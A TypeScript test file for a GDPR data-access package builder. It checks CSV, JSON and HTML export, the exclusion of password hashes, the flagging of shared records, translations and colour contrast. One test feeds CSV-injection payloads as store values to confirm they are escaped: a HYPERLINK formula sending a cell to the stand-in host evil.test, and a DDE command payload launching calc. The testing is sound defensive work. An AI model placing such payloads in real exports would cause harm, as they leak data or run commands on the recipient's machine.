import { strFromU8, unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { buildCharter } from '../../test/support/charter.js';
import type { AccessRecord } from '../stores/connector.js';
import { parseCsv } from '../platform/csv.js';
import { buildPackage } from './package.js';
import { contrast, themeCss } from './pages.js';
import { rightsTexts } from './texts/index.js';

/** A record of the `crm` store, neither restricted nor shared unless `flags` says so. */
const crmRecord = (
  table: string,
  key: string,
  columns: AccessRecord['columns'],
  flags: Partial<Pick<AccessRecord, 'restricted' | 'shared'>> = {},
): AccessRecord => ({ store: 'crm', table, key, restricted: false, ...flags, columns });

/** The package of `records` for reference R-AAAA-BBBB, built at one fixed moment with no consents. */
const packageOf = (language: 'en' | 'nl', records: AccessRecord[]) =>
  buildPackage({
    charter: buildCharter(),
    language,
    reference: 'R-AAAA-BBBB',
    generatedAt: new Date('2025-03-01T10:00:00Z'),
    records,
    consents: { current: [], events: [] },
  });

const records: AccessRecord[] = [
  crmRecord('customers', '1', [
    { name: 'email', category: 'contact.email', value: 'an@example.be' },
    { name: 'name', category: 'identity.name', value: 'An "the first", Peeters' },
    { name: 'password', category: 'account.password', value: '$argon2id$secret' },
  ]),
  crmRecord('orders', '7', [{ name: 'address', category: 'contact.postal-address', value: 'Kerkstraat 1\nGent' }], {
    restricted: true,
  }),
];

describe('the access package', () => {
  it('writes its CSV files with the one guarded writer: a store value never runs as a spreadsheet formula', () => {
    const hostile = [
      crmRecord('notes', '9', [
        { name: 'link', category: 'communication.message', value: '=HYPERLINK("http://evil.test/?"&A1,"Click")' },
        { name: 'cmd', category: 'communication.message', value: "+cmd|' /C calc'!A0" },
        { name: 'at', category: 'communication.message', value: '@SUM(1+1)' },
        { name: 'amount', category: 'communication.message', value: -12.5 },
      ]),
    ];
    const built = packageOf('en', hostile);
    // Buffer keeps the byte-order mark (TextDecoder, behind strFromU8, drops it).
    const csv = Buffer.from(unzipSync(built.bytes)['tables/crm.notes.csv']!).toString('utf8');
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(parseCsv(csv)).toEqual([
      ['_key', '_restricted', '_shared', 'link', 'cmd', 'at', 'amount'],
      [
        '9',
        'false',
        'false',
        `'=HYPERLINK("http://evil.test/?"&A1,"Click")`,
        "'+cmd|' /C calc'!A0",
        "'@SUM(1+1)",
        '-12.5',
      ],
    ]);
  });

  it('holds a report in the requester’s language, JSON and one CSV per table, and never a secret', () => {
    const built = packageOf('nl', records);
    const files = unzipSync(built.bytes);
    expect(Object.keys(files).sort()).toEqual([
      'consents.json',
      'data.json',
      'report.html',
      'tables/crm.customers.csv',
      'tables/crm.orders.csv',
    ]);
    const all = Object.values(files)
      .map((f) => strFromU8(f))
      .join('\n');
    expect(all).not.toContain('$argon2id$secret');
    expect(all).not.toContain('account.password');
    const report = strFromU8(files['report.html']!);
    expect(report).toContain('<html lang="nl">');
    expect(report).toContain('Uw persoonsgegevens bij Testco BV');
    expect(report).toContain('een overeenkomst met u');
    expect(report).toContain('Mailer SA');
    expect(report).toContain('An &quot;the first&quot;, Peeters');
    expect(report).toContain('beperkt (art. 18)');
    expect(Buffer.from(files['tables/crm.customers.csv']!).toString('utf8')).toBe(
      '\uFEFF_key,_restricted,_shared,email,name\r\n1,false,false,an@example.be,"An ""the first"", Peeters"\r\n',
    );
    expect(built.counts).toEqual({ 'crm.customers': 1, 'crm.orders': 1 });
    // A record shared with another person says so in the report, the CSV and the JSON.
    const shared = packageOf('en', [
      crmRecord('messages', '5', [{ name: 'body', category: 'communication.message', value: 'hello' }], {
        shared: true,
      }),
    ]);
    const sharedFiles = unzipSync(shared.bytes);
    expect(strFromU8(sharedFiles['report.html']!)).toContain(
      'shared with another person: their data in it is left out (Art. 15(4))',
    );
    expect(Buffer.from(sharedFiles['tables/crm.messages.csv']!).toString('utf8')).toBe(
      '\uFEFF_key,_restricted,_shared,body\r\n5,false,true,hello\r\n',
    );
    expect(strFromU8(sharedFiles['data.json']!)).toContain('"shared": true');
    // Same content, same bytes.
    const again = packageOf('nl', records);
    expect(again.sha256).toBe(built.sha256);
  });
});

describe('texts and theme', () => {
  it('has every text in every language, none empty', () => {
    const keys = (value: unknown, prefix = ''): string[] =>
      value && typeof value === 'object' && !Array.isArray(value)
        ? Object.entries(value).flatMap(([k, v]) => keys(v, `${prefix}${k}.`))
        : [prefix];
    const english = keys(rightsTexts.en).sort();
    for (const language of ['nl', 'fr', 'de'] as const) {
      expect(keys(rightsTexts[language]).sort()).toEqual(english);
      for (const [key, value] of Object.entries(rightsTexts[language])) expect(value, key).toBeTruthy();
    }
  });

  it('uses the site colours only where they keep AA contrast', () => {
    expect(contrast('#ffffff', '#000000')).toBeCloseTo(21, 0);
    expect(themeCss({ id: 's', name: 'S', domain: 's.example', theme: { primaryColor: '#0f5132' } })).toContain(
      '--accent: #0f5132',
    );
    expect(themeCss({ id: 's', name: 'S', domain: 's.example', theme: { primaryColor: '#ffee00' } })).not.toContain(
      '--accent',
    );
    expect(themeCss({ id: 's', name: 'S', domain: 's.example', theme: { backgroundColor: '#102030' } })).toContain(
      '--header-fg: #ffffff',
    );
  });
});
